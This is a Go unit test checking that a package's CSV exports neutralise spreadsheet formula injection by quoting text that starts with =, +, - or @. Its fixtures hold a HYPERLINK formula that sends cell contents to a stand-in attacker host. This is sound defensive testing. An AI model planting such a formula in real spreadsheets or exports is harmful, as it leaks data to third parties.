package measure

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Text from the input (contract, supplier, file names, reasons) reaches the
// CSV tables behind a single quote when a spreadsheet would run it as a
// formula; numbers are left alone.
func TestCSVTablesNeutraliseFormulas(t *testing.T) {
	a := NewAggregator(testFramework(t), Options{})
	const outcomes = `contract,supplier,measure,quantity,date,evidence
+C1,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",schools-supported,2,2024-06-30,
@C2,-Beta,schools-supported,1,2024-06-30,
C3,Gamma,schools-supported,x,2024-06-30,
`
	_, err := readString(t, a, "=in.csv", outcomes, Outcomes, ReadOptions{Lenient: true})
	require.NoError(t, err)
	const commitments = `contract,supplier,measure,quantity,date
+C1,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",schools-supported,4,2024-04-01
`
	_, err = readString(t, a, "c.csv", commitments, Commitments, ReadOptions{})
	require.NoError(t, err)
	rv := NewReview(a.Result(), ReviewOptions{})

	values := csvTable(t, rv, "values.csv")
	require.Len(t, values, 2)
	assert.Equal(t, "'+C1", values[0]["contract"])
	assert.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"x")`, values[0]["supplier"])
	assert.Equal(t, "2", values[0]["quantity"], "numbers are not quoted")
	assert.Equal(t, "'@C2", values[1]["contract"])
	assert.Equal(t, "'-Beta", values[1]["supplier"])

	cs := csvTable(t, rv, "commitments.csv")
	require.Len(t, cs, 1)
	assert.Equal(t, "'+C1", cs[0]["contract"])
	assert.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"x")`, cs[0]["supplier"])
	assert.Equal(t, "4", cs[0]["committed"])
	assert.Equal(t, "2", cs[0]["delivered"])

	rejected := csvTable(t, rv, "rejected.csv")
	require.Len(t, rejected, 1)
	assert.Equal(t, "'=in.csv", rejected[0]["file"])
	assert.Equal(t, "4", rejected[0]["line"])
}
